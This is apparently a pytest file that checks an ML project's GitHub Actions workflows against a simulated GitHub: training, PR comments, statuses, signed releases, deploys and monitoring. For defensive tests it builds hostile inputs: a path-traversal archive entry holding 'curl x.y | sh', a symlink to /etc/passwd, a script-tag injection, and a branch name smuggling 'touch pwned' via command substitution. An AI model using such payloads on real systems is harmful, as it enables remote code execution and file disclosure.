"""The workflows, run from fresh clones against a stand-in of GitHub: from a push to the comment."""

import io
import json
import re
import shutil
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from assay.base.errors import InputError
from assay.data.columns import columns
from assay.data.reading import read_table
from assay.github.comment import MARKER
from assay.inference.predictor import PredictionBatch, record
from assay.load.bento import free_port
from assay.predictions.write import PredictionLog
from assay.project.layout import model_version
from assay.project.settings import load_packed_contract
from assay.release.smoke import smoke
from reports import promoted
from scenario.project import Project, stages_run
from servers import Server, serving
from workflows.github import BOT, REPOSITORY, archive, running
from workflows.harness import ACTIONS, Environment, Ran, Trigger
from workflows.language import Language
from workflows.site import BRANCH, FORK, HOME, PR, Site, make_site
from workflows.test_recipes import sign_ins, signed_in

DATA = "assay-data"
MAIN = "refs/heads/main"


@pytest.fixture(scope="module")
def site_of(short_run: Project, asked: Language) -> Callable[[Path], Site]:
    """Return a function that makes GitHub with the finished project on its main branch, in a folder."""

    return lambda folder: make_site(short_run, folder, asked)


@pytest.fixture
def site(site_of: Callable[[Path], Site], tmp_path: Path) -> Iterator[Site]:
    made = site_of(tmp_path)
    with running(made.hub):
        yield made
    assert made.hub.violations == []


@dataclass
class Trained:
    """A pull request that changes a parameter: its run of train.yml, and the repository after it."""

    ran: Ran
    head: str
    git: Path
    data: bytes


@pytest.fixture(scope="module")
def trained(site_of: Callable[[Path], Site], tmp_path_factory: pytest.TempPathFactory) -> Trained:
    folder = tmp_path_factory.mktemp("trained")
    site = site_of(folder)
    with running(site.hub):
        site.work.set_params(model__parameters__C=0.5)
        head = site.push(message="Less regularisation @everyone")
        ran = site.train(head)
    data = next(content for about, content in site.hub.artifacts[ran.number] if about["name"] == DATA)
    return Trained(ran, head, site.hub.git, data)


RUN = 7


@pytest.fixture
def pushed(site: Site, trained: Trained) -> Site:
    """GitHub when the pull request was trained, and nothing was told of it yet."""
    site.hub.run_git("fetch", "--quiet", str(trained.git), f"+refs/heads/{BRANCH}:refs/heads/{BRANCH}")
    site.hub.open_pull(PR, BRANCH, trained.head)
    site.hub.upload(RUN, DATA, trained.data)
    return site


@pytest.fixture
def forked(site: Site, trained: Trained) -> Site:
    """The same for a pull request of a fork, to which no lock is committed."""
    site.hub.run_git("fetch", "--quiet", str(trained.git), f"+refs/heads/{BRANCH}:refs/pull/{PR}/head")
    site.hub.open_pull(PR, BRANCH, trained.head, source=FORK)
    site.hub.upload(RUN, DATA, trained.data)
    return site


def content(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as file:
        return {name: file.read(name) for name in file.namelist()}


def changed(data: bytes, gate: str, verdict: str, reason: str, **claimed: Any) -> bytes:
    """Return the data of a run in which a gate says something else, and that claims to be promoted."""
    files = content(data)
    report = json.loads(files["reports/report.json"])
    for one in report["verdict"]["outcomes"]:
        if one["gate"] == gate:
            one |= {"verdict": verdict, "reason": reason}
    report["verdict"] |= {"verdict": "PROMOTE", **claimed}
    return archive(files | {"reports/report.json": json.dumps(report)})


def test_a_changed_parameter_is_retrained_reported_and_its_lock_committed_and_the_next_push_updates_the_comment(
    pushed: Site, trained: Trained
):
    hub = pushed.hub
    train = trained.ran.jobs["train"]
    assert "train" in stages_run(train.step("Pipeline, gates and report").log), train.log()
    assert train.permissions == {"contents": "read"}
    assert train.summary.startswith("## ")
    # A lock that the run wrote is the next step, and not a hold.
    report = json.loads(content(trained.data)["reports/report.json"])
    (lock,) = (one for one in report["verdict"]["outcomes"] if one["gate"] == "lock")
    assert (report["verdict"]["verdict"], lock["verdict"]) == ("PROMOTE", "PROMOTE")
    assert "is not committed yet" in lock["measured"]["fresh"]["reason"]
    assert report["next"][0] == "Commit the files that this run judged: `git add dvc.lock metrics.json && git commit`."
    assert set(content(trained.data)) == {
        "reports/report.json",
        "dvc.lock",
        "metrics.json",
        "requirements/process.yaml",
    }

    told = pushed.tell(RUN, trained.head)
    assert told.conclusion == "success", told.log()
    refreshed = hub.run_git("rev-parse", f"refs/heads/{BRANCH}")
    assert hub.run_git("rev-parse", f"{refreshed}^") == trained.head
    assert hub.run_git("diff", "--name-only", trained.head, refreshed).split() == ["dvc.lock", "metrics.json"]
    assert hub.run_git("show", f"{refreshed}:dvc.lock") == content(trained.data)["dvc.lock"].decode().strip()
    assert hub.dispatched == [("ci.yml", BRANCH)]

    (comment,) = hub.reports(PR)
    assert comment.startswith(MARKER)
    assert "CML watermark" in comment
    assert "model.parameters.C" in comment
    assert "is committed to the branch" in comment
    assert f"https://github.com/{REPOSITORY}/actions/runs/{RUN}" in comment
    assert "@everyone" not in comment
    assert len(comment) <= 60_500
    assert hub.state(trained.head) == hub.state(refreshed) == "success"
    assert hub.leaked == []

    of_refreshed = content(trained.data)["reports/report.json"].replace(trained.head.encode(), refreshed.encode())
    data = archive(content(trained.data) | {"reports/report.json": of_refreshed})
    hub.upload(RUN + 1, DATA, changed(data, "quality", "HOLD", "too few rows to say"))
    told = pushed.tell(RUN + 1, refreshed)
    assert told.conclusion == "success", told.log()
    (second,) = hub.reports(PR)
    assert second != comment
    assert "too few rows to say" in second
    # The lock is that of the commit already.
    assert hub.run_git("rev-parse", f"refs/heads/{BRANCH}") == refreshed


def test_a_fork_gets_the_same_comment_and_nothing_is_pushed(pushed: Site, trained: Trained):
    hub = pushed.hub
    hub.open_pull(9, BRANCH, trained.head, source=FORK)
    before = hub.run_git("for-each-ref")
    told = pushed.tell(RUN, trained.head, fork=True)
    assert told.jobs["lock"].result == "skipped"
    assert told.jobs["report"].result == "success", told.log()
    (comment,) = hub.reports(9)
    assert "model.parameters.C" in comment
    assert hub.reports(PR) == []
    assert hub.run_git("for-each-ref") == before
    assert hub.state(trained.head) is not None


def test_a_run_that_was_overtaken_says_nothing(pushed: Site, trained: Trained):
    who = ("-c", "user.name=Ann", "-c", "user.email=ann@localhost")
    newer = pushed.hub.run_git(*who, "commit-tree", f"{trained.head}^{{tree}}", "-p", trained.head, "-m", "Newer")
    pushed.hub.pulls[0]["head"]["sha"] = newer
    before = pushed.hub.run_git("for-each-ref")
    told = pushed.tell(RUN, trained.head)
    assert told.conclusion == "success", told.log()
    assert pushed.hub.reports(PR) == []
    assert pushed.hub.statuses == {}
    assert pushed.hub.run_git("for-each-ref") == before


@pytest.mark.parametrize(
    ("verdict", "state", "mark"),
    [
        ("REJECT", "failure", "❌ REJECT"),
        pytest.param("HOLD", "pending", "✋ HOLD", marks=pytest.mark.nightly),
    ],
)
def test_the_status_says_what_the_comment_says(forked: Site, trained: Trained, verdict: str, state: str, mark: str):
    forked.hub.upload(RUN, DATA, changed(trained.data, "quality", verdict, "roc auc fell by 0.1", overrides=[]))
    told = forked.tell(RUN, trained.head, fork=True)
    assert told.conclusion == "success", told.log()
    assert forked.hub.state(trained.head) == state
    (comment,) = forked.hub.reports(PR)
    assert mark in comment


def test_what_a_person_has_accepted_is_promoted_with_the_reason(pushed: Site, trained: Trained):
    accepted = [{"gate": "quality", "by": "Ann", "why": "one hospital alone"}]
    pushed.hub.upload(RUN, DATA, changed(trained.data, "quality", "HOLD", "roc auc fell by 0.1", overrides=accepted))
    told = pushed.tell(RUN, trained.head)
    assert told.conclusion == "success", told.log()
    assert pushed.hub.state(pushed.hub.run_git("rev-parse", f"refs/heads/{BRANCH}")) == "success"
    (comment,) = pushed.hub.reports(PR)
    assert "✅ PROMOTE" in comment
    assert "one hospital alone" in comment


def hostile(data: bytes, kind: str) -> bytes:
    files = content(data)
    report = json.loads(files["reports/report.json"])
    match kind:
        case "path":
            return archive(files | {"../../.bashrc": "curl x.y | sh"})
        case "huge":
            return archive(files | {"dvc.lock": b"\0" * 2_000_000})
        case "shape":
            return archive(files | {"reports/report.json": json.dumps(report | {"pr": 1})})
        case "other commit":
            return archive(files | {"reports/report.json": json.dumps(report).replace(report_commit(report), "e" * 40)})
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as file:
        entry = zipfile.ZipInfo("dvc.lock")
        entry.create_system, entry.external_attr = 3, 0o120777 << 16
        file.writestr(entry, "/etc/passwd")
    return made.getvalue()


def report_commit(report: dict[str, Any]) -> str:
    return str(report["verdict"]["candidate"]["commit"])


# What else is refused, tests/github/test_artifact.py says; here, that the workflow stops there.
AT_NIGHT = [pytest.param(kind, marks=pytest.mark.nightly) for kind in ("path", "huge", "shape", "other commit")]


@pytest.mark.parametrize("kind", ["symlink", *AT_NIGHT])
def test_data_that_is_none_is_refused(pushed: Site, trained: Trained, kind: str):
    before = pushed.hub.run_git("for-each-ref")
    pushed.hub.upload(RUN, DATA, hostile(trained.data, kind))
    told = pushed.tell(RUN, trained.head)
    assert told.jobs["lock"].result == "failure"
    assert told.jobs["report"].step("Validate the data and write the comment").outcome == "failure"
    assert "Traceback" not in told.log()
    assert pushed.hub.state(trained.head) == "error"
    assert pushed.hub.run_git("for-each-ref") == before
    (comment,) = pushed.hub.reports(PR)
    assert "There is no report" in comment


def test_what_a_stranger_writes_is_shown_and_does_nothing(forked: Site, trained: Trained):
    reason = "<!-- x --> @ada <script>alert(1)</script> ![](http://x.y/z.png) | a\n::error::b\n```"
    forked.hub.upload(RUN, DATA, changed(trained.data, "quality", "HOLD", reason))
    forked.tell(RUN, trained.head, fork=True)
    (comment,) = forked.hub.reports(PR)
    assert comment.count("<!--") == 1
    assert "script" in comment
    for active in ("<script", "@ada", "![](http://x", "\n::"):
        assert active not in comment


def test_a_broken_cml_is_stood_in_for(forked: Site, trained: Trained):
    forked.runner.environment["CML_IS"] = "broken"
    told = forked.tell(RUN, trained.head, fork=True)
    report = told.jobs["report"]
    assert report.step("Post the comment with CML").outcome == "failure"
    assert report.result == "success", told.log()
    (comment,) = forked.hub.reports(PR)
    assert "CML watermark" not in comment
    del forked.runner.environment["CML_IS"]
    # CML would not find that comment again, and write a second one.
    told = forked.tell(RUN, trained.head, fork=True)
    assert told.jobs["report"].step("Post the comment with CML").outcome == "skipped"
    assert len(forked.hub.reports(PR)) == 1


def test_an_endless_cml_and_an_endless_registry_cost_neither_comment_nor_status(pushed: Site, trained: Trained):
    pushed.runner.hanging = {"Post the comment with CML"}
    told = pushed.tell(RUN, trained.head)
    assert told.jobs["report"].result == "success", told.log()
    assert len(pushed.hub.reports(PR)) == 1
    pushed.runner.hanging = {"Install CML"}
    pushed.hub.comments[PR].clear()
    head = pushed.hub.run_git("rev-parse", f"refs/heads/{BRANCH}")
    told = pushed.tell(RUN, trained.head)
    assert told.conclusion == "success", told.log()
    assert len(pushed.hub.reports(PR)) == 1
    # It was run again as a whole, and the dvc.lock is that of the first time.
    assert pushed.hub.run_git("rev-parse", f"refs/heads/{BRANCH}") == head
    assert len(pushed.hub.statuses[head]) == 2


def test_where_the_status_cannot_be_set_the_pull_request_says_so(pushed: Site, trained: Trained):
    pushed.runner.hanging = {"Set the commit status"}
    told = pushed.tell(RUN, trained.head)
    assert {name: job.result for name, job in told.jobs.items()} == {
        "lock": "success", "status": "failure", "lost": "success", "report": "success",
        "tidy": "skipped",
    }  # fmt: skip
    head = pushed.hub.run_git("rev-parse", f"refs/heads/{BRANCH}")
    assert pushed.hub.state(head) == "error"


@pytest.mark.nightly
def test_a_run_that_goes_on_or_has_no_end_has_a_status(pushed: Site, trained: Trained):
    told = pushed.tell(RUN, trained.head, conclusion=None)
    assert told.conclusion == "success", told.log()
    assert pushed.hub.state(trained.head) == "pending"
    assert pushed.hub.reports(PR) == []
    told = pushed.tell(RUN, trained.head, conclusion="cancelled")
    assert told.conclusion == "success", told.log()
    assert pushed.hub.state(trained.head) == "error"
    (comment,) = pushed.hub.reports(PR)
    assert "took longer than its limit" in comment


@pytest.mark.nightly
def test_where_nobody_may_comment_the_summary_has_it(pushed: Site, trained: Trained):
    pushed.hub.denied = {"pull-requests: write"}
    told = pushed.tell(RUN, trained.head)
    report = told.jobs["report"]
    assert report.result == "success", told.log()
    assert "::warning::" in report.step("Post it where CML did not").log
    assert report.summary.startswith(MARKER)
    assert pushed.hub.reports(PR) == []
    assert pushed.hub.state(trained.head) is not None


@pytest.mark.nightly
def test_behind_many_comments_the_report_is_still_one(pushed: Site, trained: Trained):
    for number in range(35):
        pushed.hub.say(PR, f"comment {number}")
    pushed.tell(RUN, trained.head)
    head = pushed.hub.run_git("rev-parse", f"refs/heads/{BRANCH}")
    told = pushed.tell(RUN, head)
    assert told.jobs["report"].step("Post the comment with CML").outcome == "skipped"
    assert len(pushed.hub.comments[PR]) == 36
    assert pushed.hub.comments[PR][35]["user"]["login"] == BOT


def test_a_run_that_stopped_is_told_of(forked: Site, trained: Trained):
    files = content(trained.data)
    del files["reports/report.json"]
    forked.hub.upload(RUN, DATA, archive(files))
    forked.tell(RUN, trained.head, fork=True)
    (comment,) = forked.hub.reports(PR)
    assert "the run failed before it wrote one" in comment
    assert forked.hub.state(trained.head) == "error"


def test_main_has_a_status_too_and_no_comment(site: Site, trained: Trained):
    site.hub.run_git("fetch", "--quiet", str(trained.git), trained.head)
    site.hub.upload(RUN, DATA, trained.data)
    told = site.tell(RUN, trained.head, branch="main", event="push")
    assert told.jobs["lock"].result == "skipped"
    assert told.jobs["status"].result == "success", told.log()
    assert told.jobs["report"].result == "skipped"
    assert site.hub.state(trained.head) is not None
    assert site.hub.comments == {}


def test_a_page_of_a_fork_is_answered_without_training(site: Site):
    site.work.append("docs/data.md", "\nOne more line.\n")
    head = site.push("main", number=9, fork=True)
    train = site.train(head, number=9, fork=True)
    assert train.conclusion == "success", train.log()
    assert "no gate depends on the changed files: docs/data.md" in train.log()
    assert "fetching" not in train.log()
    told = site.tell(train.number, head, fork=True, branch="main")
    assert told.conclusion == "success", told.log()
    (comment,) = site.hub.reports(9)
    assert "✅ PROMOTE" in comment
    assert "docs/data.md" in comment
    assert site.hub.state(head) == "success"
    # A run of a stranger can leave nothing in the caches that trusted runs read.
    assert not list((site.runner.folder / "caches").glob("*main*"))


@pytest.mark.nightly
def test_new_data_is_trained_on(site: Site):
    work = site.work
    work.ok("dvc", "pull", "--quiet", "data.dvc")
    (file,) = (work.root / "data").glob("*.csv")
    lines = file.read_text(encoding="utf-8").splitlines(keepends=True)
    file.write_text("".join(lines[:-9]), encoding="utf-8")
    work.ok("dvc", "add", "--quiet", "data")
    work.ok("dvc", "push", "--quiet", "data.dvc")
    head = site.push(message="Without nine rows")
    train = site.train(head)
    log = train.jobs["train"].step("Pipeline, gates and report").log
    assert {"validate", "train", "export"} <= set(stages_run(log)), log
    site.tell(train.number, head)
    (comment,) = site.hub.reports(PR)
    assert "9 removed" in comment
    assert site.hub.state(head) is not None


def test_what_reaches_main_is_judged_by_what_was_there(site: Site):
    site.work.append("README.md", "\nOne more line.\n")
    pushed = site.push_to_main()
    ran = site.runner.run("train.yml", pushed)
    assert ran.conclusion == "success", ran.log()
    report = json.loads(content(site.hub.artifacts[ran.number][0][1])["reports/report.json"])
    assert report["verdict"]["champion"]["commit"] == site.main
    assert report["verdict"]["candidate"]["commit"] == pushed.sha


def test_the_name_of_a_branch_is_a_name_and_nothing_else(pushed: Site, trained: Trained):
    branch = "ann/`touch${IFS}pwned`$(touch${IFS}pwned)\"';#é%2F"
    pushed.hub.run_git("update-ref", f"refs/heads/{branch}", trained.head)
    pushed.hub.pulls[0]["head"]["ref"] = branch
    told = pushed.tell(RUN, trained.head, branch=branch)
    assert told.conclusion == "success", told.log()
    assert pushed.hub.run_git("rev-parse", f"refs/heads/{branch}^") == trained.head
    assert len(pushed.hub.reports(PR)) == 1
    assert not list(pushed.runner.folder.rglob("pwned*"))


@pytest.fixture(scope="module")
def service(short_run: Project, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """The service of the finished project, as an image of it would run."""
    project = short_run.copy(tmp_path_factory.mktemp("service") / "project")
    with serving(project) as server:
        yield server


def release_of(site: Site, head: str, **changes: Any) -> Trigger:
    """Return what starts release.yml: the run of train.yml on main; GitHub runs it on the newest commit of main."""
    about = site.about(RUN, head, branch="main", event="push") | changes
    newest = site.hub.run_git("rev-parse", "main")
    return Trigger("workflow_run", {"workflow_run": about, "repository": HOME}, newest, MAIN)


def released(site: Site, service: Server, asked: Path, models: Path, *changed: dict[str, Any], **changes: Any) -> Ran:
    """Let what is on main be released, as after a run of train.yml that promoted it but for the outcomes given."""
    site.runner.environment |= {"ASKED": str(asked), "MODELS": str(models)}
    site.runner.variables |= {"ASSAY_RELEASE": "true"}
    makefile = (
        ".venv/.train .venv/.dev: ;\nimage: ; @mkdir build && cp -r $(MODELS) models && echo {} > build/sbom.json"
        " && touch build/requirements.txt\n"
    )
    (site.work.root / "Makefile").write_text(makefile)
    file = site.work.root / ".github/workflows/release.yml"
    file.write_text(file.read_text().replace("smoke http://127.0.0.1:3000", f"smoke {service.url} --seconds 1"))
    # Without the cache of packages, set-up would install them.
    action = site.work.root / ".github/actions/setup/action.yml"
    action.write_text(action.read_text().replace("inputs.cache == 'true'", "always()"))
    pushed = site.push_to_main()
    report = promoted(pushed.sha, site.main, *changed)
    site.hub.upload(RUN, DATA, archive({"reports/report.json": json.dumps(report)}))
    return site.runner.run("release.yml", release_of(site, pushed.sha, **changes))


def test_what_was_promoted_on_main_is_released_and_deployed_where_that_is_switched_on(
    site: Site, service: Server, short_run: Project, tmp_path: Path
):
    ran = released(site, service, tmp_path / "asked", short_run.root / "models")
    assert ran.conclusion == "success", ran.log()
    head, image = site.hub.run_git("rev-parse", "main"), f"ghcr.io/{REPOSITORY}"
    said = (tmp_path / "asked").read_text()
    assert f"push --quiet {image}:v1.0.0" in said
    assert "gh release create v1.0.0 --verify-tag" in said
    (released_files,) = [data for about, data in site.hub.artifacts[ran.number] if about["name"] == "release"]
    assert b"No package was looked up: the list of packages is empty" in content(released_files)["build/notes.md"]
    # The signature names the commit that was built, and has the version.
    assert site.hub.run_git("rev-parse", "v1.0.0") == head
    assert site.hub.attested == [(image, f"sha256:{7:064d}", head)]
    assert ran.jobs["deploy"].result == "skipped"
    # The token goes in by a way that no list of processes shows.
    assert not [line for line in said.splitlines() if line.startswith("docker login") and "token" in line]
    # All of it again: the version and its image stay, and it is deployed where that is switched on.
    site.runner.variables |= {"ASSAY_DEPLOY": "true"}
    again = site.runner.run("release.yml", release_of(site, head))
    assert again.conclusion == "success", again.log()
    assert again.jobs["tag"].step("Take the version").outcome == "skipped"
    assert (tmp_path / "asked").read_text().count(f"push --quiet {image}") == 1
    assert again.jobs["deploy"].permissions == {"actions": "write"}
    assert "gh workflow run deploy.yml" not in said
    assert "gh workflow run deploy.yml --raw-field version=v1.0.0" in (tmp_path / "asked").read_text()


def test_an_image_that_does_not_answer_is_not_pushed(site: Site, service: Server, short_run: Project, tmp_path: Path):
    models = Path(shutil.copytree(short_run.root / "models", tmp_path / "models"))
    examples = json.loads((models / "examples.json").read_text())
    examples["scores"][0][0] += 0.01
    (models / "examples.json").write_text(json.dumps(examples))
    ran = released(site, service, tmp_path / "asked", models)
    assert ran.jobs["image"].step("Smoke test").outcome == "failure"
    assert "differ from those recorded at export by 0.01" in ran.log()
    assert ran.jobs["publish"].result == "skipped"
    assert "push" not in (tmp_path / "asked").read_text()


@pytest.mark.parametrize(
    "changes",
    [
        {"event": "pull_request"},
        {"conclusion": "failure"},
        # A branch of a fork may be called main.
        {"event": "pull_request", "head_repository": {"full_name": FORK, "owner": {"login": "eve"}}},
        {"head_repository": {"full_name": FORK, "owner": {"login": "eve"}}},
    ],
)
def test_nothing_else_is_released(site: Site, service: Server, tmp_path: Path, changes: dict[str, Any]):
    ran = released(site, service, tmp_path / "asked", tmp_path, **changes)
    assert {job.result for job in ran.jobs.values()} == {"skipped"}


def test_what_was_held_on_main_is_not_released(site: Site, service: Server, tmp_path: Path):
    held = {"gate": "quality", "verdict": "HOLD", "reason": "too few rows"}
    ran = released(site, service, tmp_path / "asked", tmp_path, held)
    assert ran.conclusion == "success", ran.log()
    assert ran.jobs["tag"].result == ran.jobs["image"].result == "skipped"
    # Nor what main has left behind, whose signature would name another commit.
    left = site.hub.run_git("rev-parse", "main")
    site.work.append("README.md", "\nOne more line.\n")
    site.push_to_main()
    ran = site.runner.run("release.yml", release_of(site, left))
    assert "is no longer the newest commit of main" in ran.log()
    assert ran.jobs["tag"].result == "skipped"


STAGING, PRODUCTION = "ssh://ann@staging", "ssh://ann@production"


@pytest.fixture
def hosts(site: Site, tmp_path: Path) -> Path:
    """Switch deployments on, each environment with a machine of its own; return where what they are asked is noted."""
    (site.work.root / "Makefile").write_text(".venv/.train: ;\n")
    action = site.work.root / ".github/actions/setup/action.yml"
    action.write_text(action.read_text().replace("inputs.cache == 'true'", "always()"))
    site.runner.environment |= {"ASKED": str(tmp_path / "asked")}
    site.runner.variables = {"ASSAY_DEPLOY": "true"}
    for name, host in {"staging": STAGING, "production": PRODUCTION}.items():
        variables = {"DEPLOY_HOST": host, "DEPLOY_KNOWN_HOSTS": f"{name} ssh-ed25519 AAAA"}
        site.runner.environments[name] = Environment(variables, {"DEPLOY_KEY": f"key of {name}"})
    return tmp_path / "asked"


def deployed(site: Site, version: str, ref: str = "refs/heads/main", **repository: Any) -> Ran:
    """Let somebody start deploy.yml for a version."""
    pushed = site.push_to_main()
    payload = {"inputs": {"version": version}, "repository": HOME | repository}
    return site.runner.run("deploy.yml", Trigger("workflow_dispatch", payload, pushed.sha, ref))


def run_on(asked: Path) -> list[tuple[str, str]]:
    """Return the machines that were told to run an image of the service, each with its digest."""
    lines = [
        line.split() for line in asked.read_text().splitlines() if " docker run " in line and "--read-only" in line
    ]
    return [(words[0], words[-1].partition("@sha256:")[2].lstrip("0")) for words in lines]


@pytest.mark.parametrize(
    ("version", "digest"), [("v1.2.0", "120"), pytest.param("v1.1.0", "110", marks=pytest.mark.nightly)]
)
def test_a_version_is_deployed_to_staging_and_then_to_production_an_older_one_to_go_back(
    site: Site, hosts: Path, version: str, digest: str
):
    ran = deployed(site, version)
    assert ran.conclusion == "success", ran.log()
    said = hosts.read_text()
    assert run_on(hosts) == [(STAGING, digest), (PRODUCTION, digest)]
    # Its signature is looked at before any machine is asked for anything.
    assert said.index(f"gh attestation verify oci://ghcr.io/{REPOSITORY}:{version}") < said.index(STAGING)
    assert re.search(r"^ssh-add - in \S+/agent: key of staging$", said, re.MULTILINE)
    assert "key of" not in ran.log()
    known = sorted(path.read_text() for path in site.runner.folder.rglob(".ssh/known_hosts"))
    assert known == ["production ssh-ed25519 AAAA\n", "staging ssh-ed25519 AAAA\n"]


def test_production_waits_until_it_is_let(site: Site, hosts: Path):
    site.runner.environments["production"].waits = True
    ran = deployed(site, "v1.2.0")
    assert {name: job.result for name, job in ran.jobs.items()} == {"staging": "success", "production": "waiting"}
    assert run_on(hosts) == [(STAGING, "120")]


def test_without_a_host_nothing_is_deployed(site: Site, hosts: Path):
    site.runner.environments.clear()
    ran = deployed(site, "v1.2.0")
    assert ran.conclusion == "success", ran.log()
    assert run_on(hosts) == []


@pytest.mark.parametrize(
    ("version", "said"),
    [("v9.0.0", "assay: gh attestation: exit status 1"), ("latest; ls", "'latest; ls': not a version")],
)
def test_what_no_release_signed_is_not_deployed(site: Site, hosts: Path, version: str, said: str):
    ran = deployed(site, version)
    assert said in ran.jobs["staging"].log()
    assert ran.jobs["production"].result == "skipped"
    assert run_on(hosts) == []


@pytest.mark.parametrize(
    ("variables", "ref", "repository"),
    [
        ({}, "refs/heads/main", {}),
        ({"ASSAY_RELEASE": "true"}, "refs/heads/main", {}),
        ({"ASSAY_DEPLOY": "true"}, "refs/heads/main", {"is_template": True}),
        ({"ASSAY_DEPLOY": "true"}, "refs/heads/other", {}),
    ],
)
def test_a_fresh_copy_a_template_and_another_branch_deploy_nothing(
    site: Site, hosts: Path, variables: dict[str, str], ref: str, repository: dict[str, Any]
):
    site.runner.variables = variables
    ran = deployed(site, "v1.2.0", ref, **repository)
    assert {job.result for job in ran.jobs.values()} == {"skipped"}


def test_a_service_that_is_not_there_or_serves_another_model_is_told_of(
    service: Server, short_run: Project, tmp_path: Path
):
    with pytest.raises(InputError, match="ConnectError after 0 s"):
        smoke(f"http://127.0.0.1:{free_port()}", 0, short_run.root / "models")
    models = Path(shutil.copytree(short_run.root / "models", tmp_path / "models"))
    about = (models / "model.json").read_text()
    (models / "model.json").write_text(about.replace('"threshold": ', '"threshold": 1'))
    with pytest.raises(InputError, match=rf"serves model .* holds {model_version(models)}"):
        smoke(service.url, 1, models)


@pytest.mark.nightly
def test_what_is_asked_for_becomes_a_pull_request(site: Site):
    def ask(event: str = "workflow_dispatch", **inputs: Any) -> Ran:
        payload = {"inputs": {"params": "", "search": False, "packages": False} | inputs, "repository": HOME}
        return site.runner.run("propose.yml", Trigger(event, payload, site.main, MAIN))

    ran = ask(params="model.parameters.C=0.25")
    assert ran.conclusion == "success", ran.log()
    job, others = ran.jobs["propose"], ("Search for a better model", "Fetch new data", "Lock the newest packages")
    assert {job.step(name).outcome for name in others} == {"skipped"}
    (pull,) = site.hub.pulls
    assert pull["title"] == "Other parameters"
    assert site.hub.run_git("diff", "--name-only", "main", pull["head"]["sha"]) == "params.yaml"
    assert "there is no section model.parameter" in ask(params="model.parameter.C=1").log()
    # The calendar proposes nothing that the owner has not asked for.
    assert ask("schedule").jobs["propose"].result == "skipped"
    assert len(site.hub.pulls) == 1


def write_log(folder: Path, models: Path, *, days: int, stretched: float, known: bool) -> None:
    """Write what eight clients asked some days ago: the rows of the data, nearly, with larger radii, and outcomes."""
    made = load_packed_contract(models)
    table, _ = read_table(models.parent / made.data, made)
    data = columns(table, made)
    for name, values in data.items():
        data[name] = values * (stretched if name == "mean_radius" else 1.001)
    truth = np.array([made.classes.index(one) for one in table[made.target.name].to_pylist()])
    labels, scores = np.array(made.classes, dtype=object), np.where(truth[:, None] == [0, 1], 0.97, 0.03)
    time = int((datetime.now(UTC) - timedelta(days=days)).timestamp() * 1000)
    names = ",".join(f"{time:012x}-{row:04}" for row in range(len(truth)))
    batch = PredictionBatch(names, scores, {}, labels, record(labels), truth, truth)
    each = len(truth) // 8
    keys = [(f"client {number}".encode(), each) for number in range(7)] + [(b"client 7", len(truth) - 7 * each)]
    log = PredictionLog(folder, made, "c0ffee")
    log.predictions(model_version(models), "champion", batch, data, keys=keys)
    if known:
        outcomes = labels[truth].tolist()
        log.outcomes(
            [{"prediction_id": name, "outcome": outcome} for name, outcome in zip(batch.ids(), outcomes, strict=True)]
        )
    log.close()


@pytest.mark.nightly
def test_an_alarm_of_production_becomes_one_issue_and_one_pull_request(site: Site, short_run: Project, tmp_path: Path):
    log = tmp_path / "log"
    for days in (9, 2, 1):
        write_log(log, short_run.root / "models", days=days, stretched=1.3, known=days == 9)
    site.runner.variables = {"ASSAY_MONITOR": f'test "$LOG_KEY" = key && cp -r {log} monitoring'}
    site.runner.environments["log"] = Environment(secrets={"LOG_KEY": "key"})

    def look(event: str = "schedule") -> Ran:
        payload = {"repository": HOME | {"private": True}}
        return site.runner.run("monitor.yml", Trigger(event, payload, site.main, MAIN))

    ran = look()
    assert ran.conclusion == "success", ran.log()
    assert len(site.hub.issues) == 1, ran.log()
    (issue,) = site.hub.issues
    assert "mean_radius" in issue["body"]
    (pull,) = site.hub.pulls
    assert (pull["head"]["ref"], pull["base"]["ref"]) == ("assay/retrain", "main")
    assert "113 rows added to 569" in pull["body"]
    assert issue["body"] in pull["body"]
    changed = site.hub.run_git("diff", "--name-only", "main", pull["head"]["sha"]).split()
    assert {"data.dvc", "dvc.lock", "metrics.json"} <= set(changed)
    assert all(path.startswith(".dvc/embedded/") or "/" not in path for path in changed), changed
    # The same again is neither a second issue nor a second pull request, and nothing new to approve.
    again = look()
    assert "has these changes already" in again.log(), again.log()
    assert (len(site.hub.issues), len(site.hub.pulls)) == (1, 1)
    assert pull["head"]["sha"] == site.hub.run_git("rev-parse", "refs/heads/assay/retrain")


def test_where_the_monitor_is_not_switched_on_nothing_runs_and_a_log_that_does_not_come_is_an_issue(site: Site):
    def look() -> Ran:
        # The event of a schedule may name no repository.
        return site.runner.run("monitor.yml", Trigger("schedule", {}, site.main, MAIN))

    assert {job.result for job in look().jobs.values()} == {"skipped"}
    site.runner.variables = {"ASSAY_MONITOR": "false"}
    ran = look()
    assert ran.jobs["monitor"].step("Bring the log").outcome == "failure"
    assert ran.jobs["monitor"].step("What was found").outcome == "skipped"
    assert ran.jobs["tell"].result == "skipped"
    assert ran.jobs["alarm"].result == "success", ran.log()
    assert [issue["title"] for issue in site.hub.issues] == ["The monitor failed"], ran.log()


# Targets that take no time; one of them fails.
TARGETS = """\
.venv/.train .venv/.dev .venv/.package: ;
lint secrets test repro audit lint-all test-all: ; @test $@ != {failing}
gate-bench: ; @test "$(SEEDS)"
loadtest: ; @test "$(LONG)" = --long
load-bench: ;
"""


@pytest.mark.parametrize(
    ("failing", "result"),
    [("nothing", "success"), pytest.param("lint", "failure", marks=pytest.mark.nightly), ("test", "failure")],
)
def test_one_check_stands_for_all_of_ci(site: Site, failing: str, result: str):
    (site.work.root / "Makefile").write_text(TARGETS.format(failing=failing))
    ran = site.runner.run("ci.yml", site.push_to_main())
    assert ran.jobs["pass"].result == result, ran.log()
    assert ran.jobs["check"].step("Tests").outcome == ("failure" if failing == "test" else "success")


def test_a_page_is_neither_linted_nor_tested_and_passes_all_the_same(site: Site):
    # tests/workflows/test_secrets.py scans.
    site.runner.environment["SKIP"] = "secrets"
    site.work.append("docs/data.md", "\nOne more line.\n")
    ran = site.runner.run("ci.yml", site.push_to_main())
    assert ran.jobs["pass"].result == "success", ran.log()
    check = ran.jobs["check"]
    steps = {
        name: check.step(name).outcome for name in ("Format, types, workflows, secrets", "Secrets in pages", "Tests")
    }
    assert list(steps.values()) == ["skipped", "success", "skipped"]


